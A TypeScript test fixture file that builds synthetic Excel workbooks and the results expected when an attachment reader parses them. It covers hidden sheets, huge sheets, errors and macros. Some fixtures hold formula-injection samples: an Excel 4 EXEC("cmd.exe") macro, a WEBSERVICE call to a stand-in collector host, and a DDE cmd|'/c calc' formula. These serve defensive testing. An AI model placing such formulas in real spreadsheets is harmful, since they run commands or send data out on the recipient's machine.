import { bookParts, makeArchive, makeXlsx, sheetData } from '../fixtures/make-xlsx.ts';
import { type MailedFile } from './mailed-file.ts';
import {
  analysed,
  BOOK,
  book,
  LINK,
  numbers,
  ONE,
  PARTS,
  READ,
  ROWS,
  SHARED,
  says,
  sheet,
  strict,
  told,
  with_,
} from './make-workbooks.ts';

export const WORKBOOKS: readonly MailedFile[] = [
  book('of one sheet', () => makeXlsx(ONE), READ),
  book('whose texts are shared', () => makeXlsx(SHARED), READ),
  book(
    'in the strict variant of the standard',
    () =>
      makeArchive(
        Object.fromEntries(Object.entries(PARTS).map(([name, part]) => [name, strict(String(part))])),
      ),
    READ,
  ),
  analysed(
    'with macros',
    'rent.xlsm',
    () => with_({ 'xl/vbaProject.bin': new Uint8Array(40_000).fill(7) }),
    READ,
  ),
  book(
    'with macros of Excel 4',
    () =>
      with_({
        'xl/macrosheets/sheet1.xml':
          '<xm:macrosheet xmlns:xm="x"><sheetData><row><c><f>EXEC("cmd.exe")</f><v>1</v></c></row></sheetData></xm:macrosheet>',
      }),
    READ,
  ),
  book(
    'with links to another file',
    () =>
      makeArchive({
        ...bookParts({
          ...ONE,
          after: '<externalReferences><externalReference r:id="x"/></externalReferences>',
        }),
        'xl/externalLinks/externalLink1.xml': '<externalLink/>',
        'xl/externalLinks/_rels/externalLink1.xml.rels': `<Relationships>${LINK}</Relationships>`,
      }),
    told('linked_workbook'),
  ),
  book(
    'with a picture and a chart',
    () =>
      with_({
        'xl/media/image1.png': new Uint8Array(50_000),
        'xl/charts/chart1.xml': '<c:chart xmlns:c="c"><c:v>999</c:v></c:chart>',
      }),
    { ...READ, lacks: ['999'] },
  ),
  book(
    'with an object of another program',
    () => with_({ 'xl/embeddings/oleObject1.bin': new Uint8Array(10_000).fill(3) }),
    READ,
  ),
  book(
    'of 300 sheets',
    () =>
      makeXlsx({
        sheets: Array.from({ length: 300 }, (_sheet, at) => ({
          name: `S${at}`,
          xml: sheetData([['n'], [at]]),
        })),
      }),
    { has: ['rent_s0: 1 rows of n', 'rent_s39: 1 rows of n'], told: ['tables_beyond', 'not_asked'] },
  ),
  book(
    'with a hidden sheet',
    () => {
      const two = { sheets: [...ONE.sheets, { name: 'Secret', xml: sheetData([['n'], [7]]) }] };
      const parts = bookParts(two);
      return makeArchive({
        ...parts,
        [BOOK]: String(parts[BOOK]).replace('name="Secret"', 'name="Secret" state="veryHidden"'),
      });
    },
    { has: ['rent_flat: 2 rows', 'rent_secret: 1 rows of n'], told: ['hidden_sheet'] },
  ),
  book(
    'with hidden rows and columns',
    () =>
      sheet(
        '<cols><col min="2" max="2" hidden="1"/></cols><sheetData><row><c t="inlineStr"><is><t>Month</t></is></c><c t="inlineStr"><is><t>Rent</t></is></c></row><row hidden="1"><c t="inlineStr"><is><t>May</t></is></c><c><v>640</v></c></row><row><c t="inlineStr"><is><t>June</t></is></c><c><v>655</v></c></row></sheetData>',
      ),
    told('hidden_columns', 'hidden_rows'),
  ),
  book('of a million rows', () => sheet(numbers(1_000_000)), {
    has: ['rent: 1000000 rows'],
    told: ['no_header'],
  }),
  book('of more than a million rows', () => sheet(numbers(1_000_010)), {
    has: ['rent: 1000000 rows'],
    told: ['cut', 'no_header'],
  }),
  book(
    'of 300 columns',
    () => sheet(sheetData([Array.from({ length: 300 }, (_cell, at) => at)])),
    says.tooWide,
  ),
  book(
    'whose cells lie far apart',
    () =>
      sheet(
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Month</t></is></c><c r="XFD1" t="inlineStr"><is><t>Rent</t></is></c></row><row r="500000"><c r="A500000" t="inlineStr"><is><t>May</t></is></c><c r="XFD500000"><v>640</v></c></row><row r="1048576"><c r="A1048576" t="inlineStr"><is><t>June</t></is></c><c r="XFD1048576"><v>655</v></c></row></sheetData>',
      ),
    READ,
  ),
  book(
    'with errors in cells',
    () =>
      sheet(
        sheetData([
          ['Month', 'Rent'],
          ['May', 640],
          ['June', 655],
        ]).replace(
          '</sheetData>',
          '<row><c t="inlineStr"><is><t>July</t></is></c><c t="e"><v>#REF!</v></c></row></sheetData>',
        ),
      ),
    { has: ['rent: 3 rows', 'July'], lacks: ['#REF!'], told: ['empty_cells', 'error_cells'] },
  ),
  book(
    'with formulas that were never calculated',
    () =>
      sheet('<sheetData><row><c r="A1"><f>WEBSERVICE("http://collector.example")</f></c></row></sheetData>'),
    says.uncalculated,
  ),
  book(
    'with a formula that calls a program',
    () => sheet(sheetData(ROWS).replace('<v>655</v>', "<f>cmd|'/c calc'!A0</f><v>655</v>")),
    READ,
  ),
];
